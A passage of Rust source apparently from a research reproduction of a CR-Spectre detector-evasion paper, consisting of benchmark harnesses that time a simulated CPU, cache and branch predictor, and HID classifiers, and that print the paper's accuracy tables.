        })
    });
}

fn bench_cache(c: &mut Criterion) {
    c.bench_function("cache/hit_access", |b| {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        h.access_data(0x1000);
        b.iter(|| black_box(h.access_data(0x1000)))
    });
    c.bench_function("cache/miss_stream", |b| {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        let mut addr = 0u64;
        b.iter(|| {
            addr = addr.wrapping_add(64) & 0xf_ffff;
            black_box(h.access_data(addr))
        })
    });
    c.bench_function("cache/flush_line", |b| {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        b.iter(|| h.flush_line(black_box(0x2000)))
    });
}

fn bench_predictor(c: &mut Criterion) {
    c.bench_function("branch/pht_predict_update", |b| {
        let mut pht = PatternHistoryTable::new(1024);
        let mut pc = 0u64;
        b.iter(|| {
            pc = pc.wrapping_add(8);
            let p = pht.predict(pc);
            pht.update(pc, !p);
            black_box(p)
        })
    });
}

fn bench_codec(c: &mut Criterion) {
    let instr = Instr::Alu(AluOp::Add, Reg::R1, Reg::R2, Reg::R3);
    c.bench_function("isa/encode", |b| b.iter(|| black_box(instr.encode())));
    let bytes = instr.encode();
    c.bench_function("isa/decode", |b| b.iter(|| black_box(Instr::decode(&bytes))));
}

fn bench_gadget_scan(c: &mut Criterion) {
    let mut asm = Asm::new();
    asm.label("main");
    asm.halt();
    add_runtime(&mut asm);
    let image = asm.build("host").expect("assembles");
    let mut m = Machine::new(MachineConfig::default());
    let li = m.load(&image).expect("loads");
    c.bench_function("rop/gadget_scan_runtime", |b| {
        let scanner = Scanner::default();
        b.iter(|| black_box(scanner.scan_image(&m, &li)))
    });
}

criterion_group!(
    benches,
    bench_simulator_throughput,
    bench_cache,
    bench_predictor,
    bench_codec,
    bench_gadget_scan
);
criterion_main!(benches);

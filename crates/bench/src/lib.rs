//! # cr-spectre-bench
//!
//! Experiment harnesses regenerating every table and figure of the
//! paper's evaluation, plus Criterion micro-benchmarks of the
//! subsystems.
//!
//! Binaries (each prints the paper-style rows/series):
//!
//! * `fig4`   — HID accuracy vs feature size (Figure 4);
//! * `fig5`   — offline HID vs Spectre / CR-Spectre (Figure 5);
//! * `fig6`   — online HID vs Spectre / dynamic CR-Spectre (Figure 6);
//! * `table1` — IPC overhead per benchmark (Table I);
//! * `ablations` — extra sweeps of design choices (speculation window,
//!   covert-channel stride, perturbation delay, feature composition).
//!
//! Run with `cargo run --release -p cr-spectre-bench --bin fig5`.

use cr_spectre_core::campaign::{DetectorSeries, EvasionResult};

/// Parses `--threads N` from the process arguments.
///
/// Every experiment binary accepts it; `None` means "use the
/// [`CampaignConfig`](cr_spectre_core::campaign::CampaignConfig)
/// default", i.e. every available core. The campaign engine guarantees
/// bit-identical output at every thread count, so the flag only changes
/// wall-clock time.
///
/// # Panics
///
/// Panics (with a usage message) when the argument after `--threads` is
/// missing, unparsable, or zero — these binaries have no other error
/// channel.
pub fn threads_arg() -> Option<usize> {
    let mut args = std::env::args();
    while let Some(arg) = args.next() {
        if arg == "--threads" {
            let raw = args.next().unwrap_or_else(|| panic!("--threads needs a value"));
            let threads: usize = raw
                .parse()
                .unwrap_or_else(|_| panic!("bad --threads value {raw:?} (expected a count)"));
            assert!(threads > 0, "--threads must be at least 1");
            return Some(threads);
        }
    }
    None
}

/// Formats an accuracy as the paper's percentage.
pub fn pct(x: f64) -> String {
    format!("{:5.1}%", x * 100.0)
}

/// Prints a Figure-5/6 style panel: one row per detector, one column per
/// attempt.
pub fn print_panel(title: &str, series: &[DetectorSeries]) {
    println!("\n{title}");
    print!("{:<12}", "detector");
    let attempts = series.first().map_or(0, |s| s.accuracy.len());
    for a in 1..=attempts {
        print!("{a:>8}");
    }
    println!("{:>9}", "mean");
    for s in series {
        print!("{:<12}", s.kind.name());
        for &v in &s.accuracy {
            print!("{:>8}", pct(v).trim());
        }
        println!("{:>9}", pct(s.mean()).trim());
    }
}

/// Prints a complete evasion result (both panels) with the paper's
/// panel labels.
pub fn print_evasion(result: &EvasionResult, figure: &str) {
    print_panel(
        &format!("{figure}(a): plain Spectre vs HID (accuracy per attempt)"),
        &result.spectre,
    );
    print_panel(
        &format!("{figure}(b): CR-Spectre vs HID (accuracy per attempt)"),
        &result.cr_spectre,
    );
}

/// Summarizes the evasion headline: average plain-Spectre accuracy vs the
/// lowest CR-Spectre accuracy (the paper's "90% to 16%" claim).
pub fn evasion_headline(result: &EvasionResult) -> (f64, f64) {
    let avg_spectre = mean(result.spectre.iter().map(DetectorSeries::mean));
    let min_cr = result
        .cr_spectre
        .iter()
        .flat_map(|s| s.accuracy.iter().copied())
        .fold(f64::INFINITY, f64::min);
    (avg_spectre, if min_cr.is_finite() { min_cr } else { 0.0 })
}

fn mean(values: impl Iterator<Item = f64>) -> f64 {
    let v: Vec<f64> = values.collect();
    if v.is_empty() {
        return 0.0;
    }
    v.iter().sum::<f64>() / v.len() as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_hid::detector::HidKind;

    fn fake_result() -> EvasionResult {
        let mk = |vals: &[f64]| {
            HidKind::ALL
                .iter()
                .map(|&kind| DetectorSeries { kind, accuracy: vals.to_vec() })
                .collect()
        };
        EvasionResult { spectre: mk(&[0.9, 0.92]), cr_spectre: mk(&[0.4, 0.2]) }
    }

    #[test]
    fn headline_extracts_avg_and_min() {
        let (avg, min) = evasion_headline(&fake_result());
        assert!((avg - 0.91).abs() < 1e-12);
        assert!((min - 0.2).abs() < 1e-12);
    }

    #[test]
    fn pct_formats() {
        assert_eq!(pct(0.163).trim(), "16.3%");
    }

    #[test]
    fn printing_does_not_panic() {
        print_evasion(&fake_result(), "Fig X");
    }
}

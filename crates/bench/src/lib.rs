//! # cr-spectre-bench
//!
//! Experiment harnesses regenerating every table and figure of the
//! paper's evaluation, plus Criterion micro-benchmarks of the
//! subsystems.
//!
//! Binaries (each prints the paper-style rows/series):
//!
//! * `fig4`   — HID accuracy vs feature size (Figure 4);
//! * `fig5`   — offline HID vs Spectre / CR-Spectre (Figure 5);
//! * `fig6`   — online HID vs Spectre / dynamic CR-Spectre (Figure 6);
//! * `table1` — IPC overhead per benchmark (Table I);
//! * `ablations` — extra sweeps of design choices (speculation window,
//!   covert-channel stride, perturbation delay, feature composition);
//! * `sim_throughput` — perf-regression harness for the execution fast
//!   path: guest MIPS fast vs. slow on a fixed instruction mix and the
//!   fig5 smoke campaign, written to `BENCH_sim.json`;
//! * `hid_throughput` — perf-regression harness for the HID's flat math
//!   core: train/predict rows per second per classifier family, fast
//!   (flat `Mat` + batched GEMM) vs. the seed reference
//!   implementations, written to `BENCH_hid.json`.
//!
//! Run with `cargo run --release -p cr-spectre-bench --bin fig5`.

use cr_spectre_core::campaign::{CampaignConfig, DetectorSeries, EvasionResult};
use cr_spectre_telemetry as telemetry;
use cr_spectre_telemetry::sink::{JsonlSink, Sink, SummarySink};

/// The command-line options every experiment binary accepts:
///
/// * `--threads N` — worker threads (default: all cores; results are
///   bit-identical at every thread count, the flag only changes
///   wall-clock time);
/// * `--quick` — smoke-scale configuration;
/// * `--quiet` — suppress commentary and the telemetry summary report;
///   only final result tables are printed;
/// * `--telemetry PATH` — record a structured JSONL trace of the run.
#[derive(Debug, Clone, Default)]
pub struct BenchOpts {
    /// `--threads N`, if given.
    pub threads: Option<usize>,
    /// `--quick`: smoke-scale campaign configuration.
    pub quick: bool,
    /// `--quiet`: only final results on stdout, no summary report.
    pub quiet: bool,
    /// `--telemetry PATH`: JSONL trace destination.
    pub telemetry: Option<String>,
}

impl BenchOpts {
    /// Parses the process arguments. Unknown arguments are ignored so
    /// binaries can layer their own flags on top.
    ///
    /// # Panics
    ///
    /// Panics (with a usage message) when a flag's value is missing,
    /// unparsable, or zero — these binaries have no other error channel.
    pub fn parse() -> BenchOpts {
        BenchOpts::from_args(std::env::args().skip(1))
    }

    /// [`BenchOpts::parse`] over an explicit argument list (testable).
    pub fn from_args(args: impl IntoIterator<Item = String>) -> BenchOpts {
        let mut opts = BenchOpts::default();
        let mut it = args.into_iter();
        while let Some(arg) = it.next() {
            match arg.as_str() {
                "--threads" => {
                    let raw = it.next().unwrap_or_else(|| panic!("--threads needs a value"));
                    let threads: usize = raw.parse().unwrap_or_else(|_| {
                        panic!("bad --threads value {raw:?} (expected a count)")
                    });
                    assert!(threads > 0, "--threads must be at least 1");
                    opts.threads = Some(threads);
                }
                "--telemetry" => {
                    let path = it.next().unwrap_or_else(|| panic!("--telemetry needs a path"));
                    opts.telemetry = Some(path);
                }
                "--quick" => opts.quick = true,
                "--quiet" => opts.quiet = true,
                _ => {}
            }
        }
        opts
    }

    /// The campaign configuration these options select: paper scale or
    /// `--quick` smoke scale, with `--threads` applied.
    pub fn campaign_config(&self) -> CampaignConfig {
        let mut cfg =
            if self.quick { CampaignConfig::smoke() } else { CampaignConfig::default() };
        if let Some(threads) = self.threads {
            cfg.threads = threads;
        }
        cfg
    }

    /// Installs the telemetry recorder this invocation asked for: a
    /// [`JsonlSink`] when `--telemetry PATH` was given, plus the human
    /// [`SummarySink`] report unless `--quiet`. Without `--telemetry`
    /// this is a no-op and recording stays disabled (the default).
    ///
    /// # Panics
    ///
    /// Panics when the trace file cannot be created.
    pub fn init_telemetry(&self) {
        let Some(path) = &self.telemetry else { return };
        let jsonl = JsonlSink::create(path)
            .unwrap_or_else(|e| panic!("cannot create telemetry file {path:?}: {e}"));
        let mut sinks: Vec<Box<dyn Sink>> = vec![Box::new(jsonl)];
        if !self.quiet {
            sinks.push(Box::new(SummarySink::new()));
        }
        telemetry::install(sinks);
    }

    /// Shuts the recorder down: aggregates totals, writes the JSONL
    /// footer lines, and (unless `--quiet`) prints the summary report to
    /// stderr. Call once, after the last result line.
    pub fn finish(&self) {
        let _ = telemetry::shutdown();
    }

    /// Prints a commentary/progress line — suppressed by `--quiet`.
    /// Final result tables print unconditionally via `println!`.
    pub fn note(&self, msg: &str) {
        if !self.quiet {
            println!("{msg}");
        }
    }
}

/// Formats an accuracy as the paper's percentage.
pub fn pct(x: f64) -> String {
    format!("{:5.1}%", x * 100.0)
}

/// Prints a Figure-5/6 style panel: one row per detector, one column per
/// attempt.
pub fn print_panel(title: &str, series: &[DetectorSeries]) {
    println!("\n{title}");
    print!("{:<12}", "detector");
    let attempts = series.first().map_or(0, |s| s.accuracy.len());
    for a in 1..=attempts {
        print!("{a:>8}");
    }
    println!("{:>9}", "mean");
    for s in series {
        print!("{:<12}", s.kind.name());
        for &v in &s.accuracy {
            print!("{:>8}", pct(v).trim());
        }
        println!("{:>9}", pct(s.mean()).trim());
    }
}

/// Prints a complete evasion result (both panels) with the paper's
/// panel labels.
pub fn print_evasion(result: &EvasionResult, figure: &str) {
    print_panel(
        &format!("{figure}(a): plain Spectre vs HID (accuracy per attempt)"),
        &result.spectre,
    );
    print_panel(
        &format!("{figure}(b): CR-Spectre vs HID (accuracy per attempt)"),
        &result.cr_spectre,
    );
}

/// Summarizes the evasion headline: average plain-Spectre accuracy vs the
/// lowest CR-Spectre accuracy (the paper's "90% to 16%" claim).
pub fn evasion_headline(result: &EvasionResult) -> (f64, f64) {
    let avg_spectre = mean(result.spectre.iter().map(DetectorSeries::mean));
    let min_cr = result
        .cr_spectre
        .iter()
        .flat_map(|s| s.accuracy.iter().copied())
        .fold(f64::INFINITY, f64::min);
    (avg_spectre, if min_cr.is_finite() { min_cr } else { 0.0 })
}

fn mean(values: impl Iterator<Item = f64>) -> f64 {
    let v: Vec<f64> = values.collect();
    if v.is_empty() {
        return 0.0;
    }
    v.iter().sum::<f64>() / v.len() as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_hid::detector::HidKind;

    fn fake_result() -> EvasionResult {
        let mk = |vals: &[f64]| {
            HidKind::ALL
                .iter()
                .map(|&kind| DetectorSeries { kind, accuracy: vals.to_vec() })
                .collect()
        };
        EvasionResult { spectre: mk(&[0.9, 0.92]), cr_spectre: mk(&[0.4, 0.2]) }
    }

    #[test]
    fn headline_extracts_avg_and_min() {
        let (avg, min) = evasion_headline(&fake_result());
        assert!((avg - 0.91).abs() < 1e-12);
        assert!((min - 0.2).abs() < 1e-12);
    }

    #[test]
    fn pct_formats() {
        assert_eq!(pct(0.163).trim(), "16.3%");
    }

    #[test]
    fn printing_does_not_panic() {
        print_evasion(&fake_result(), "Fig X");
    }

    fn opts(args: &[&str]) -> BenchOpts {
        BenchOpts::from_args(args.iter().map(|s| s.to_string()))
    }

    #[test]
    fn bench_opts_parse_all_flags() {
        let o = opts(&["--quick", "--threads", "3", "--quiet", "--telemetry", "t.jsonl"]);
        assert!(o.quick && o.quiet);
        assert_eq!(o.threads, Some(3));
        assert_eq!(o.telemetry.as_deref(), Some("t.jsonl"));
        let cfg = o.campaign_config();
        assert_eq!(cfg.threads, 3);
        assert_eq!(cfg.attempts, 3, "--quick selects the smoke scale");
    }

    #[test]
    fn bench_opts_defaults_and_unknown_args() {
        let o = opts(&["--frobnicate", "7"]);
        assert!(!o.quick && !o.quiet);
        assert_eq!(o.threads, None);
        assert_eq!(o.telemetry, None);
        assert_eq!(o.campaign_config().attempts, 10, "paper scale by default");
    }

    #[test]
    #[should_panic(expected = "--threads must be at least 1")]
    fn bench_opts_rejects_zero_threads() {
        let _ = opts(&["--threads", "0"]);
    }

    #[test]
    #[should_panic(expected = "--telemetry needs a path")]
    fn bench_opts_requires_telemetry_path() {
        let _ = opts(&["--telemetry"]);
    }
}

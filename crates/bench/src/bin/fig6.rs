//! Regenerates **Figure 6**: online-type (retraining) HID performance
//! against plain Spectre (panel a) and dynamically perturbed CR-Spectre
//! (panel b), over 10 attack attempts.

use cr_spectre_bench::{evasion_headline, print_evasion, BenchOpts};
use cr_spectre_core::campaign::fig6;

fn main() {
    let opts = BenchOpts::parse();
    opts.init_telemetry();
    let cfg = opts.campaign_config();
    let result = fig6(&cfg);
    print_evasion(&result, "Fig 6");
    let (avg, min) = evasion_headline(&result);
    opts.note(
        "\npaper: online HID holds ~86-96% on Spectre; dynamic CR-Spectre\n\
         degrades detection to <55%, lowest observed 16%;",
    );
    println!(
        "measured: plain Spectre mean {:.1}%, CR-Spectre minimum {:.1}%",
        avg * 100.0,
        min * 100.0
    );
    opts.finish();
}

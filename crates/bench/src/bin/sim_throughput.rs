//! Perf-regression harness for the simulator's execution fast path.
//!
//! Two measurements, each taken with the fast path on and with the
//! `MachineConfig::fast_path = false` escape hatch:
//!
//! 1. a **fixed instruction mix** — a branchy ALU/load/store/call loop
//!    over a 64 KiB buffer, the interpreter's steady-state diet;
//! 2. the **fig5 smoke campaign** — the full CR-Spectre chain (ROP
//!    injection, speculation, HID sampling) at smoke scale, with
//!    guest-MIPS derived from the telemetry layer's `sim.*` counters.
//!
//! Both report guest MIPS (millions of retired guest instructions per
//! wall-clock second) and the fast/slow speedup, and the run doubles as
//! an equivalence check: the mix must retire the identical instruction
//! and cycle counts either way.
//!
//! Flags on top of the usual set: `--quick` (fewer, shorter reps) and
//! `--out PATH` (default `BENCH_sim.json`).
//!
//! Run with `cargo run --release -p cr-spectre-bench --bin sim_throughput`.

use std::time::Instant;

use cr_spectre_bench::BenchOpts;
use cr_spectre_core::campaign::{fig5, CampaignConfig};
use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::image::{Image, ImageSegment, SegKind};
use cr_spectre_sim::isa::{AluOp, BranchCond, Instr, Reg, Width, INSTR_BYTES};
use cr_spectre_sim::mem::Perms;
use cr_spectre_sim::RunOutcome;
use cr_spectre_telemetry as telemetry;
use cr_spectre_telemetry::sink::MemorySink;

/// One measured configuration: guest MIPS plus its raw ingredients.
struct Throughput {
    instructions: u64,
    wall_s: f64,
}

impl Throughput {
    fn mips(&self) -> f64 {
        self.instructions as f64 / self.wall_s / 1e6
    }
}

/// The fixed instruction mix: `iters` round trips through a 14-instruction
/// loop body — 6 ALU ops, 2 loads, 1 store, a call/ret pair, and the
/// back edge — striding through a 64 KiB read-write buffer whose base the
/// host passes in `R1`.
fn mix_image(iters: u32) -> Image {
    let b = INSTR_BYTES as i32; // branch immediates are byte offsets
    let instrs = [
        /* i0  */ Instr::Ldi(Reg::R2, iters as i32),
        /* i1  */ Instr::Ldi(Reg::R3, 0), // i = 0
        // loop:
        /* i2  */ Instr::Alui(AluOp::Add, Reg::R4, Reg::R3, 13),
        /* i3  */ Instr::Alui(AluOp::Xor, Reg::R5, Reg::R4, 0x55),
        /* i4  */ Instr::Alu(AluOp::Add, Reg::R6, Reg::R4, Reg::R5),
        /* i5  */ Instr::Alui(AluOp::And, Reg::R7, Reg::R6, 0xfff8),
        /* i6  */ Instr::Alu(AluOp::Add, Reg::R8, Reg::R1, Reg::R7),
        /* i7  */ Instr::Ld(Width::D, Reg::R9, Reg::R8, 0),
        /* i8  */ Instr::Alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R6),
        /* i9  */ Instr::St(Width::D, Reg::R8, Reg::R9, 0),
        /* i10 */ Instr::Ld(Width::W, Reg::R10, Reg::R1, 64),
        /* i11 */ Instr::Call(4 * b), // leaf at i15
        /* i12 */ Instr::Alui(AluOp::Add, Reg::R3, Reg::R3, 1),
        /* i13 */ Instr::Br(BranchCond::Ne, Reg::R3, Reg::R2, -(11 * b)), // back to i2
        /* i14 */ Instr::Halt,
        // leaf:
        /* i15 */ Instr::Alui(AluOp::Add, Reg::R11, Reg::R11, 1),
        /* i16 */ Instr::Ret,
    ];
    let bytes: Vec<u8> = instrs.iter().flat_map(|i| i.encode()).collect();
    Image::new(
        "mix",
        vec![ImageSegment { name: ".text".into(), kind: SegKind::Text, offset: 0, bytes }],
        0,
    )
}

/// Runs the mix once on a fresh machine and returns the outcome plus the
/// wall-clock seconds the guest took.
fn run_mix_once(fast_path: bool, iters: u32) -> (RunOutcome, f64) {
    let cfg = MachineConfig { fast_path, ..MachineConfig::default() };
    let mut m = Machine::new(cfg);
    let li = m.load(&mix_image(iters)).expect("mix image loads");
    let buf = m.alloc(64 * 1024, Perms::RW);
    m.start(li.entry);
    m.set_reg(Reg::R1, buf);
    let t0 = Instant::now();
    let out = m.run();
    let wall = t0.elapsed().as_secs_f64();
    assert!(out.exit.is_clean(), "mix must halt cleanly, got {:?}", out.exit);
    (out, wall)
}

/// Best-of-`reps` throughput of the mix (one unmeasured warmup first).
fn measure_mix(opts: &BenchOpts, fast_path: bool, iters: u32, reps: u32) -> Throughput {
    let _ = run_mix_once(fast_path, iters); // warmup
    let mut best: Option<Throughput> = None;
    let mut reference: Option<RunOutcome> = None;
    for _ in 0..reps {
        let (out, wall) = run_mix_once(fast_path, iters);
        // Every rep is deterministic; a drift here is a simulator bug.
        assert_eq!(
            *reference.get_or_insert(out.clone()),
            out,
            "mix reps must be deterministic"
        );
        let t = Throughput { instructions: out.instructions, wall_s: wall };
        if best.as_ref().is_none_or(|b| t.mips() > b.mips()) {
            best = Some(t);
        }
    }
    let best = best.expect("at least one rep");
    opts.note(&format!(
        "  mix fast_path={fast_path:<5} {:>8.2} MIPS  ({} instrs, best of {reps} reps)",
        best.mips(),
        best.instructions
    ));
    best
}

/// Runs the fig5 smoke campaign with the given fast-path setting under a
/// fresh telemetry recorder; MIPS comes from the recorded `sim.*`
/// counters, exercising the bench's telemetry-reporting path end to end.
fn measure_fig5(opts: &BenchOpts, fast_path: bool) -> (Throughput, String) {
    let mut cfg = CampaignConfig::smoke();
    cfg.machine.fast_path = fast_path;
    if let Some(threads) = opts.threads {
        cfg.threads = threads;
    }
    let sink = MemorySink::shared();
    let installed = telemetry::install(vec![Box::new(sink)]);
    assert!(installed, "telemetry recorder already installed");
    let t0 = Instant::now();
    let result = fig5(&cfg);
    let wall = t0.elapsed().as_secs_f64();
    let summary = telemetry::shutdown().expect("recorder was installed");
    let instructions =
        summary.counters.get("sim.instructions").copied().expect("campaign emits sim counters");
    let t = Throughput { instructions, wall_s: wall };
    opts.note(&format!(
        "  fig5 fast_path={fast_path:<5} {:>8.2} MIPS  ({instructions} guest instrs in {wall:.2}s)",
        t.mips()
    ));
    (t, format!("{result:?}"))
}

fn json_entry(t: &Throughput) -> String {
    format!(
        "{{\"mips\": {:.3}, \"instructions\": {}, \"wall_s\": {:.6}}}",
        t.mips(),
        t.instructions,
        t.wall_s
    )
}

fn main() {
    let opts = BenchOpts::parse();
    let mut out_path = String::from("BENCH_sim.json");
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        if arg == "--out" {
            out_path = args.next().unwrap_or_else(|| panic!("--out needs a path"));
        }
    }

    // Rep length is chosen so one rep runs for hundreds of milliseconds:
    // short bursts measure the CPU's frequency ramp and cold caches, not
    // the interpreter's steady-state throughput.
    let (iters, reps) = if opts.quick { (800_000, 2) } else { (2_000_000, 3) };

    opts.note("fixed instruction mix (ALU/load/store/call loop):");
    let mix_fast = measure_mix(&opts, true, iters, reps);
    let mix_slow = measure_mix(&opts, false, iters, reps);
    assert_eq!(
        mix_fast.instructions, mix_slow.instructions,
        "fast path must not change the architectural instruction count"
    );
    let mix_speedup = mix_fast.mips() / mix_slow.mips();

    opts.note("fig5 smoke campaign (full CR-Spectre chain):");
    let (fig5_fast, fast_result) = measure_fig5(&opts, true);
    let (fig5_slow, slow_result) = measure_fig5(&opts, false);
    assert_eq!(fast_result, slow_result, "fig5 must be bit-identical fast vs slow");
    let fig5_speedup = fig5_fast.mips() / fig5_slow.mips();

    let json = format!(
        "{{\n  \"bench\": \"sim_throughput\",\n  \"quick\": {},\n  \"mix\": {{\n    \
         \"fast_path\": {},\n    \"baseline\": {},\n    \"speedup\": {:.3}\n  }},\n  \
         \"fig5_smoke\": {{\n    \"fast_path\": {},\n    \"baseline\": {},\n    \
         \"speedup\": {:.3}\n  }}\n}}\n",
        opts.quick,
        json_entry(&mix_fast),
        json_entry(&mix_slow),
        mix_speedup,
        json_entry(&fig5_fast),
        json_entry(&fig5_slow),
        fig5_speedup,
    );
    std::fs::write(&out_path, &json)
        .unwrap_or_else(|e| panic!("cannot write {out_path:?}: {e}"));

    println!(
        "mix:  {:.2} -> {:.2} MIPS ({mix_speedup:.2}x)   fig5: {:.2} -> {:.2} MIPS ({fig5_speedup:.2}x)",
        mix_slow.mips(),
        mix_fast.mips(),
        fig5_slow.mips(),
        fig5_fast.mips(),
    );
    println!("wrote {out_path}");
    opts.finish();
}

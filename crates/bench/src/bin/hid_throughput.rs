//! Perf-regression harness for the HID's flat math core.
//!
//! For each classifier family (LR, SVM, MLP, NN, kNN) it measures
//! **training** and **prediction** throughput in rows/sec, fast path
//! (flat [`Mat`] storage, batched GEMM prediction) against the seed
//! baseline kept verbatim in `cr_spectre_hid::reference` — the same
//! before/after role `fast_path = false` plays for `sim_throughput`.
//!
//! The run doubles as an equivalence check: every family's fast batch
//! predictions must equal the reference model's per-row predictions
//! exactly (the full bit-identity contract is locked by
//! `crates/hid/tests/fastmath_equivalence.rs`).
//!
//! Flags on top of the usual set: `--quick` (smaller corpus, fewer
//! reps) and `--out PATH` (default `BENCH_hid.json`).
//!
//! Run with `cargo run --release -p cr-spectre-bench --bin hid_throughput`.

use std::time::Instant;

use cr_spectre_bench::BenchOpts;
use cr_spectre_hid::detector::Detector;
use cr_spectre_hid::linalg::Mat;
use cr_spectre_hid::reference::{RefDenseNet, RefKnn, RefLinearSvm, RefLogisticRegression};
use cr_spectre_hid::{DenseNet, Knn, LinearSvm, LogisticRegression};

/// One measured configuration: rows pushed through per wall-clock second.
struct Throughput {
    rows: u64,
    wall_s: f64,
}

impl Throughput {
    fn rows_per_sec(&self) -> f64 {
        self.rows as f64 / self.wall_s
    }
}

/// Deterministic two-cluster dataset, the shape of normalized counter
/// windows (fig5 scale by default).
fn clusters(n: usize, dim: usize, sep: f64, seed: u64) -> (Vec<Vec<f64>>, Vec<u8>) {
    let mut state = seed | 1;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % 2000) as f64 / 1000.0 - 1.0
    };
    let mut x = Vec::with_capacity(n);
    let mut y = Vec::with_capacity(n);
    for i in 0..n {
        let label = (i % 2) as u8;
        let center = if label == 1 { sep } else { -sep };
        x.push((0..dim).map(|_| center + next()).collect());
        y.push(label);
    }
    (x, y)
}

/// Best-of-`reps` training throughput of a freshly built model per rep.
fn measure_train(
    build: &dyn Fn() -> Box<dyn Detector>,
    x: &[Vec<f64>],
    y: &[u8],
    reps: u32,
) -> Throughput {
    let mut warm = build();
    warm.fit(x, y); // warmup
    let mut best: Option<Throughput> = None;
    for _ in 0..reps {
        let mut model = build();
        let t0 = Instant::now();
        model.fit(x, y);
        let wall = t0.elapsed().as_secs_f64();
        let t = Throughput { rows: x.len() as u64, wall_s: wall };
        if best.as_ref().is_none_or(|b| t.rows_per_sec() > b.rows_per_sec()) {
            best = Some(t);
        }
    }
    best.expect("at least one rep")
}

/// Best-of-`reps` prediction throughput: `passes` full sweeps over the
/// corpus per rep. The fast model scores through `predict_batch` over
/// flat storage; the baseline through the seed's per-row `predict`.
fn measure_predict(
    model: &dyn Detector,
    x: &[Vec<f64>],
    mat: Option<&Mat>,
    passes: u32,
    reps: u32,
) -> Throughput {
    let mut best: Option<Throughput> = None;
    for _ in 0..reps {
        let t0 = Instant::now();
        let mut flagged = 0usize;
        for _ in 0..passes {
            match mat {
                Some(m) => flagged += model.predict_batch(m).iter().filter(|&&p| p == 1).count(),
                None => flagged += x.iter().filter(|row| model.predict(row) == 1).count(),
            }
        }
        let wall = t0.elapsed().as_secs_f64();
        std::hint::black_box(flagged);
        let t = Throughput { rows: (x.len() as u64) * u64::from(passes), wall_s: wall };
        if best.as_ref().is_none_or(|b| t.rows_per_sec() > b.rows_per_sec()) {
            best = Some(t);
        }
    }
    best.expect("at least one rep")
}

fn json_entry(t: &Throughput) -> String {
    format!(
        "{{\"rows_per_sec\": {:.1}, \"rows\": {}, \"wall_s\": {:.6}}}",
        t.rows_per_sec(),
        t.rows,
        t.wall_s
    )
}

struct FamilyResult {
    name: &'static str,
    train_fast: Throughput,
    train_base: Throughput,
    predict_fast: Throughput,
    predict_base: Throughput,
}

impl FamilyResult {
    fn train_speedup(&self) -> f64 {
        self.train_fast.rows_per_sec() / self.train_base.rows_per_sec()
    }

    fn predict_speedup(&self) -> f64 {
        self.predict_fast.rows_per_sec() / self.predict_base.rows_per_sec()
    }

    fn json(&self) -> String {
        format!(
            "  \"{}\": {{\n    \"train\": {{\"fast\": {}, \"baseline\": {}, \"speedup\": {:.3}}},\n    \
             \"predict\": {{\"fast\": {}, \"baseline\": {}, \"speedup\": {:.3}}}\n  }}",
            self.name,
            json_entry(&self.train_fast),
            json_entry(&self.train_base),
            self.train_speedup(),
            json_entry(&self.predict_fast),
            json_entry(&self.predict_base),
            self.predict_speedup(),
        )
    }
}

#[allow(clippy::too_many_arguments)]
fn measure_family(
    opts: &BenchOpts,
    name: &'static str,
    build_fast: &dyn Fn() -> Box<dyn Detector>,
    build_base: &dyn Fn() -> Box<dyn Detector>,
    x: &[Vec<f64>],
    y: &[u8],
    passes: u32,
    reps: u32,
) -> FamilyResult {
    let mat = Mat::from_rows(x);
    let train_fast = measure_train(build_fast, x, y, reps);
    let train_base = measure_train(build_base, x, y, reps);

    let mut fast = build_fast();
    fast.fit(x, y);
    let mut base = build_base();
    base.fit(x, y);
    // Before/after must agree before the numbers mean anything.
    let fast_pred = fast.predict_batch(&mat);
    let base_pred: Vec<u8> = x.iter().map(|row| base.predict(row)).collect();
    assert_eq!(fast_pred, base_pred, "{name}: fast and baseline predictions diverge");

    let predict_fast = measure_predict(fast.as_ref(), x, Some(&mat), passes, reps);
    let predict_base = measure_predict(base.as_ref(), x, None, passes, reps);
    let result = FamilyResult { name, train_fast, train_base, predict_fast, predict_base };
    opts.note(&format!(
        "  {name:<4} train {:>10.0} -> {:>10.0} rows/s ({:.2}x)   predict {:>10.0} -> {:>10.0} rows/s ({:.2}x)",
        result.train_base.rows_per_sec(),
        result.train_fast.rows_per_sec(),
        result.train_speedup(),
        result.predict_base.rows_per_sec(),
        result.predict_fast.rows_per_sec(),
        result.predict_speedup(),
    ));
    result
}

fn main() {
    let opts = BenchOpts::parse();
    opts.init_telemetry();
    let mut out_path = String::from("BENCH_hid.json");
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        if arg == "--out" {
            out_path = args.next().unwrap_or_else(|| panic!("--out needs a path"));
        }
    }

    // fig5 scale (800 × 4) at full size; --quick shrinks the corpus and
    // the rep counts but keeps every family and both directions.
    let (n, passes, reps) = if opts.quick { (240, 20, 2) } else { (800, 50, 3) };
    let (x, y) = clusters(n, 4, 1.5, 0xb1d0);

    opts.note(&format!("HID math-core throughput, {n} rows x 4 features:"));
    type Build = dyn Fn() -> Box<dyn Detector>;
    let families: [(&'static str, Box<Build>, Box<Build>); 5] = [
        (
            "LR",
            Box::new(|| Box::new(LogisticRegression::new()) as Box<dyn Detector>),
            Box::new(|| Box::new(RefLogisticRegression::new()) as Box<dyn Detector>),
        ),
        (
            "SVM",
            Box::new(|| Box::new(LinearSvm::new()) as Box<dyn Detector>),
            Box::new(|| Box::new(RefLinearSvm::new()) as Box<dyn Detector>),
        ),
        (
            "MLP",
            Box::new(|| Box::new(DenseNet::mlp()) as Box<dyn Detector>),
            Box::new(|| Box::new(RefDenseNet::mlp()) as Box<dyn Detector>),
        ),
        (
            "NN",
            Box::new(|| Box::new(DenseNet::nn6()) as Box<dyn Detector>),
            Box::new(|| Box::new(RefDenseNet::nn6()) as Box<dyn Detector>),
        ),
        (
            "kNN",
            Box::new(|| Box::new(Knn::new()) as Box<dyn Detector>),
            Box::new(|| Box::new(RefKnn::new()) as Box<dyn Detector>),
        ),
    ];

    let results: Vec<FamilyResult> = families
        .iter()
